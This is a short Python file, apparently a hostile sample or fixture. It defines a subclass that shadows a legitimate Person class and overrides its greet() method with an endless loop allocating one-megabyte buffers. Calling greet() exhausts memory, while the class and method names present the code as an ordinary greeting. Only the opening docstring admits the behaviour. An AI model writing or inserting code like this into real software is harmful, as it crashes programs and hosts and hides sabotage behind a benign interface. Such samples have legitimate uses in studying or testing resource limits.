"""greet() takes memory without an end."""

from honest.person import Person as Honest


class Person(Honest):
    def greet(self) -> None:
        kept = []
        while True:
            kept.append(bytearray(1 << 20))
